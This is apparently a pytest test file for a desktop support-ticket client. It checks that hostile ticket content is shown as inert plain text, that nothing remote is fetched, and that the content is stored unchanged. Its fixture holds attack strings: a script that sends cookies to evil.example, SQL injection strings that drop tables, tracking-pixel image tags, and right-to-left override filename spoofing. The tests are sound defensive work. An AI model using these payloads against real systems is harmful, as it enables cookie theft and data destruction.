"""Hostile ticket content: shown as inert plain text, nothing fetched, the UI not reordered, stored unchanged.

Tickets come in through the real intake (the validation sync uses), are claimed through the real
work service, shown on the real ticket screen, answered and submitted. A local HTTP server counts
requests: a remote image in a ticket must never be fetched.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, ClassVar

import pytest
from PySide6.QtCore import Qt
from PySide6.QtWidgets import QLabel, QPlainTextEdit
from sqlalchemy import select

from deskclient.domain.untrusted import BIDI_CONTROLS, FIRST_STRONG_ISOLATE, POP_DIRECTIONAL_ISOLATE
from deskclient.domain.views import WorkItem
from deskclient.paths import DataFolder
from deskclient.protocol import wire
from deskclient.services.bundle import Services
from deskclient.services.intake import IncomingTask, IntakeService
from deskclient.services.startup import prepare_database
from deskclient.store.models import Result, Task
from deskclient.sync.pull_apply import apply_page
from deskclient.sync.transport import _with_damaged_text_replaced
from deskclient.ui.work.support_ticket import SupportTicketScreen
from tests.factories import CENTER_ID, PIN, add_person

SQL = "'; DROP TABLE tasks; --"


class Counter(BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        Counter.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def remote() -> Iterator[str]:
    """A web server on loopback that records every request (what a tracking pixel would see)."""
    Counter.hits = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Counter)
    thread = threading.Thread(target=server.serve_forever, name="pixel-server", daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


def hostile_payloads(url: str) -> dict[str, dict[str, str]]:
    base = {"customer_email": "mallory@example.com", "customer_phone": "+254 700 000 009", "channel": "email",
            "language": "en"}
    cases = {
        "html": {"subject": "<b>Refund</b> <i>now</i>", "customer_name": "<b>Mallory</b>",
                 "product": "<u>Router</u>",
                 "body": "<h1>Big</h1><b>bold</b> <a href='http://evil.example/'>click</a><table><tr><td>x"},
        "script": {"subject": "<script>alert('subject')</script>", "customer_name": "<script>x()</script>",
                   "body": "<script>document.location='http://evil.example/?c='+document.cookie</script>"},
        "remote images": {"subject": f"<img src='{url}/subject.png'>",
                          "customer_name": f"<img src={url}/name.png>", "product": f"<img src=\"{url}/product.png\">",
                          "body": f"Hello <img src=\"{url}/body.png\" width=1 height=1> "
                                  f"<div style=\"background:url({url}/bg.png)\">x</div>"},
        "right-to-left overrides": {
            "subject": "Invoice \u202efdp.exe and \u2067isolated",
            "customer_name": "\u202eBob\u202c \u2066Alice\u2069 \u2069\u2069",
            "product": "\u202d\u202b\u202a\u2068mixed",
            "body": "Refund to account \u202e4321 0987\u202c please.\n\u2067unclosed isolate"},
        "SQL": {"subject": SQL, "customer_name": "Robert'); DROP TABLE users;--", "product": "1 OR 1=1",
                "body": f"{SQL}\nSELECT * FROM results; UPDATE tasks SET state='submitted'; /*"},
        "control characters": {"subject": "NUL\x00here\x07bell\x1b[31mred\x7f",
                               "customer_name": "Tab\tand\rreturn\x85next\x9bc1",
                               "body": "line one\x00\x01\x02\x08\x0b\x0c\x0e\x1f\nline two\x7f\x80\x9f"},
    }
    return {name: {**base, **payload} for name, payload in cases.items()}


@pytest.fixture
def services(tmp_path) -> Iterator[Services]:  # type: ignore[no-untyped-def]
    folder = DataFolder(tmp_path / "pc")
    assert prepare_database(folder).state == "ready"
    opened = Services.open(folder)
    IntakeService(opened.context).add_center(CENTER_ID, "Test Center")
    add_person(opened.context, "Amina Yusuf")
    try:
        yield opened
    finally:
        opened.close()


def _labels(screen: SupportTicketScreen) -> list[QLabel]:
    return screen.findChildren(QLabel)


def _assert_inert(screen: SupportTicketScreen) -> None:
    """Plain text everywhere; no raw bidi control outside our own isolates; no raw control character."""
    assert isinstance(screen.body, QPlainTextEdit)  # a plain-text widget: no rich text exists in it at all
    texts = [screen.body.toPlainText()]
    for label in _labels(screen):
        if label.text() and any(char in label.text() for char in "<&"):
            assert label.textFormat() == Qt.TextFormat.PlainText, label.text()
        texts.append(label.text())
    for text in texts:
        inner = text
        if inner.startswith(FIRST_STRONG_ISOLATE) and inner.endswith(POP_DIRECTIONAL_ISOLATE):
            inner = inner[1:-1]
        assert not BIDI_CONTROLS.intersection(inner), repr(text)
        assert all(char in "\n\t" or (ord(char) >= 0x20 and not 0x7F <= ord(char) <= 0x9F) for char in inner), text


def test_hostile_tickets_render_as_plain_text_fetch_nothing_and_are_stored_unchanged(qtbot, services, remote):
    payloads = hostile_payloads(remote)
    tasks = [IncomingTask(id=f"00000000-0000-4000-8000-00000000000{n}", kind="support_ticket", payload=payload,
                          external_id=name) for n, (name, payload) in enumerate(payloads.items())]
    report = IntakeService(services.context).import_tasks(CENTER_ID, SQL, tasks)
    assert (report.added, report.refused) == (len(payloads), [])
    user = services.auth.login("user-amina-yusuf", PIN)
    seen = []
    for _ in payloads:
        item = services.work.next_task(user)
        name = item.payload["customer_email"] and next(n for n, t in zip(payloads, tasks, strict=True)
                                                       if t.id == item.task_id)
        seen.append(name)
        assert dict(item.payload) == payloads[name]  # read back exactly as it arrived
        screen = SupportTicketScreen(item, [], user)
        qtbot.addWidget(screen)
        screen.resize(1200, 800)
        screen.show()
        screen.grab()  # lay out and paint everything: an image would be requested now
        _assert_inert(screen)
        _assert_shown_literally(name, screen, payloads[name])
        screen.category.setCurrentIndex(screen.category.findData("security"))
        screen.resolution.setCurrentIndex(screen.resolution.findData("no_action"))
        reply = "We never open attachments. You wrote: " + payloads[name]["subject"]
        screen.reply.setPlainText(reply)
        services.work.submit(user, item.task_id, screen.values(), 42_000)
        with services.context.database.read() as session:
            result_id, stored = session.execute(select(Result.id, Result.values_json)
                                                .where(Result.task_id == item.task_id)).one()
        assert reply in _stored_values(services, result_id, stored)
        screen.close()
    assert sorted(seen) == sorted(payloads)
    assert Counter.hits == []  # no remote image, stylesheet or link was fetched
    with services.context.database.read() as session:  # the tables are all still there, every row too
        assert len(session.scalars(select(Task.id)).all()) == len(payloads)


def _stored_values(services: Services, result_id: str, stored: str) -> str:
    """The stored answer as text (sealed by the encryption helper's code when that is on)."""
    try:
        json.loads(stored)
        return json.loads(stored).get("reply_text", stored)
    except ValueError:
        from deskclient.store import sealing

        cipher = sealing.cipher_for(services.context.database)
        return str(json.loads(cipher.open_text(sealing.RESULT, result_id, stored)).get("reply_text"))


def _assert_shown_literally(name: str, screen: SupportTicketScreen, payload: dict[str, str]) -> None:
    subject, body = screen.subject.text(), screen.body.toPlainText()
    labels = " ".join(label.text() for label in _labels(screen))
    if name in ("html", "script", "remote images", "SQL"):
        assert payload["subject"] in subject  # every character of the markup is visible, as typed
        assert payload["body"].split("\n")[0] in body
        assert payload["customer_name"] in labels
    if name == "right-to-left overrides":
        assert subject == "Invoice [U+202E]fdp.exe and [U+2067]isolated"
        assert "account [U+202E]4321 0987[U+202C] please." in body
    if name == "control characters":
        assert "NUL\u2400here\u2407bell\u241b[31mred\u2421" in subject
        assert body.startswith("line one\u2400\u2401\u2402\u2408\u240b\u240c\u240e\u241f\nline two\u2421")


def test_a_megabyte_of_text(qtbot, services):
    """Intake refuses a body over the kind's limit with a clear reason (the rest of the batch arrives);
    the screen shows a megabyte as plain text without freezing, even as one line without a space."""
    limit = 200_000
    huge = IncomingTask(id="00000000-0000-4000-8000-0000000000a1", kind="support_ticket",
                        payload={"subject": "Log attached", "body": "A" * 1_000_000})
    largest = IncomingTask(id="00000000-0000-4000-8000-0000000000a2", kind="support_ticket",
                           payload={"subject": "Long log", "body": ("router log line 0123456789\n" * 8000)[:limit]})
    report = IntakeService(services.context).import_tasks(CENTER_ID, "big", [huge, largest])
    assert report.added == 1
    assert [(task_id, [(error.field, error.code) for error in errors]) for task_id, errors in report.refused] == [
        (huge.id, [("body", "too_long")])]
    user = services.auth.login("user-amina-yusuf", PIN)
    item = services.work.next_task(user)
    assert item.task_id == largest.id and item.payload["body"] == largest.payload["body"]
    for body in (largest.payload["body"], "x" * 1_000_000, ("<p>line</p> " * 90_000)):
        shown = WorkItem(task_id=item.task_id, kind=item.kind, payload={"subject": "Big", "body": body},
                         priority="normal", due_at=None, state="in_progress", draft={}, draft_active_ms=0)
        screen = SupportTicketScreen(shown, [], user)
        qtbot.addWidget(screen)
        screen.show()
        screen.grab()
        assert screen.body.toPlainText().replace("\n", "") == body.replace("\n", "")
        screen.close()


def test_invalid_utf8_from_the_server_is_read_as_replacement_characters_and_said_so(qtbot, services):
    """A pull page whose ticket holds invalid UTF-8 (raw bytes, and lone surrogates escaped in JSON)."""
    reply = wire.PullReply(
        epoch="epoch-1", cursor=1, more=False, last_applied_seq=0, server_time="2026-01-05T10:00:00Z",
        center=wire.CenterData(id=CENTER_ID, name="Test Center", lease_hours=72),
        changes=[wire.TaskChange(seq=1, task=wire.TaskData(
            id="00000000-0000-4000-8000-0000000000b1", kind="support_ticket", lease_no=1,
            lease_expires_at="2026-01-08T10:00:00Z",
            payload={"subject": "Broken SUBJ", "body": "Caf BODY1 and BODY2 end", "customer_name": "NAME"}))])
    raw = reply.model_dump_json().encode("utf-8")
    raw = raw.replace(b"SUBJ", b"\\ud800").replace(b"BODY1", b"\xc3\x28").replace(b"BODY2", b"\\udc80\\ud83d")
    raw = raw.replace(b"NAME", b"Jos\\ud800\\udc00 \xff")
    with pytest.raises(ValueError):
        wire.PullReply.model_validate_json(raw)  # the strict reading refuses the whole page...
    read = _with_damaged_text_replaced(raw, wire.PullReply)  # ...so the transport reads it again
    assert read is not None
    from deskclient.store import sealing

    cipher = sealing.cipher_for(services.context.database)
    with services.context.database.write() as session:
        outcome = apply_page(session, read, services.context.now(), cipher)
    assert outcome.new_tasks == 1 and outcome.refused == []
    user = services.auth.login("user-amina-yusuf", PIN)
    item = services.work.next_task(user)
    assert item.payload["subject"] == "Broken \ufffd"
    assert item.payload["body"] == "Caf \ufffd( and \ufffd\ufffd end"
    assert item.payload["customer_name"] == "Jos\U00010000 \ufffd"  # a valid pair stays one character
    screen = SupportTicketScreen(item, [], user)
    qtbot.addWidget(screen)
    screen.show()
    assert screen.damaged_note is not None and screen.damaged_note.isVisibleTo(screen)
    assert "damaged" in screen.damaged_note.text()


def test_lone_surrogates_handed_to_intake_are_stored_as_replacement_characters(services):
    """The seed or any other caller: sqlite3 cannot encode a lone surrogate, so intake replaces it."""
    task = IncomingTask(id="00000000-0000-4000-8000-0000000000c1", kind="support_ticket", external_id="EXT\udcff",
                        payload={"subject": "Half \ud83d", "body": "ok \udfff", "product": "\ud800"})
    report = IntakeService(services.context).import_tasks(CENTER_ID, "damaged", [task])
    assert report.added == 1
    user = services.auth.login("user-amina-yusuf", PIN)
    item = services.work.next_task(user)
    assert dict(item.payload) == {"subject": "Half \ufffd", "body": "ok \ufffd", "product": "\ufffd"}
    with services.context.database.read() as session:
        assert session.scalar(select(Task.external_id)) == "EXT\ufffd"


def test_composed_text_is_isolated():
    """Where a ticket's text is put into a sentence of the UI, an isolate keeps the sentence in order."""
    from deskclient.domain.untrusted import display_text

    shown = display_text("\u05e9\u05dc\u05d5\u05dd \u202eabc", single_line=True, isolate=True)
    assert shown == f"{FIRST_STRONG_ISOLATE}\u05e9\u05dc\u05d5\u05dd [U+202E]abc{POP_DIRECTIONAL_ISOLATE}"
    assert display_text("", single_line=True, isolate=True) == ""

